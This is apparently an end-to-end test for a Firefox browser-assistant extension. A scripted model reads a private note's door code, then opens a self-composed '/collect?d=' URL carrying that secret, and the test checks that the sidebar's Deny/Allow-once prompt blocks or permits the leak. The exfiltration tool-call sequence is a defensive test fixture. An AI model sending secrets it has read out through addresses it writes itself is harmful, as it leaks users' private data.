/**
 * Firefox counterpart of sidepanel-provenance.test.ts: the model read a secret and opens an address of
 * its own with the secret in it; the sidebar asks, Deny sends nothing and the model is told, Allow once
 * sends it. Needs `npm run build && npm run build:firefox`.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'puppeteer-core';
import { startLocalServer, type LocalServer } from '../support/local-server';
import { askInSidebar, patchSettings, startFirefoxWorld, type FirefoxWorld } from './firefox-world';
import { lastChatRequest } from '../support/model-server';

const SECRET = 'DOOR-CODE-4711-FF';
const QUESTION = '::-p-aria([role="group"][name="Open an address the model wrote itself?"])';

describe('opens of addresses the model wrote itself, in Firefox', () => {
  let world: FirefoxWorld;
  let notes: LocalServer;
  const hits: string[] = [];
  const collected = () => hits.filter((h) => h.startsWith('/collect'));

  beforeAll(async () => {
    world = await startFirefoxWorld();
    notes = await startLocalServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      const body = req.url === '/private.html' ? `<p>The door code for the office is ${SECRET}. Nobody else may know it.</p>` : '<p>Thank you for the data you sent.</p>';
      res.end(`<!doctype html><html><head><title>Note</title></head><body><main><h1>Note</h1>${body}</main></body></html>`);
    });
  });
  afterAll(async () => {
    await world?.close();
    await notes?.close();
  });

  async function answerQuestion(panel: Page, button: 'Deny' | 'Allow once'): Promise<void> {
    const group = await panel.waitForSelector(QUESTION, { timeout: 30_000 });
    expect(await group!.evaluate((g) => g.querySelector('.open-question__url')?.textContent)).toBe(`${notes.url}/collect?d=${SECRET}`);
    expect(collected()).toEqual([]);
    const target = await group!.waitForSelector(`::-p-aria([role="button"][name="${button}"])`);
    await target!.click();
  }

  it('Deny sends nothing and tells the model; Allow once sends it', async () => {
    const { ff, site, search, model } = world;
    const setup = await ff.openExtensionPage('src/options/index.html');
    await patchSettings(setup, {
      model: { baseUrl: model.url, apiStyle: 'openai', model: 'scripted-model', toolProfile: 'browser' },
      search: { provider: 'searxng', searxngUrl: search.url },
      browsing: { allowedLocalHosts: [new URL(site.url).host, new URL(notes.url).host], openWithoutAsking: [], cacheHours: 0 },
    });
    await setup.close();

    const privateNote = `${notes.url}/private.html`;
    const leak = `${notes.url}/collect?d=${SECRET}`;
    const turns = (content: string) => [
      { toolCalls: [{ name: 'browser.open', arguments: { id: privateNote } }] },
      { toolCalls: [{ name: 'browser.open', arguments: { id: leak } }] },
      { content, chunkSize: 64 },
    ];
    model.setTurns(turns('Refused, as you said.'));
    const panel = await askInSidebar(ff, `What does my note at ${privateNote} say?`);
    await answerQuestion(panel, 'Deny');
    await panel.waitForFunction(() => document.querySelector('[role="log"]')?.textContent?.includes('Refused, as you said.'), { timeout: 30_000 });
    expect(collected()).toEqual([]);
    const results = (lastChatRequest(model.requests).body.messages as { role: string; content: string }[]).filter((m) => m.role === 'tool').map((m) => m.content);
    expect(results[1]).toMatch(/was declined by the user/);
    await panel.close();

    model.setTurns(turns('Sent as you allowed.'));
    const again = await askInSidebar(ff, `And again: what does ${privateNote} say?`);
    await answerQuestion(again, 'Allow once');
    await again.waitForFunction(() => document.querySelector('[role="log"]')?.textContent?.includes('Sent as you allowed.'), { timeout: 30_000 });
    expect(new Set(collected())).toEqual(new Set([`/collect?d=${SECRET}`]));
    expect(ff.errors).toEqual([]);
    await again.close();
  });
});
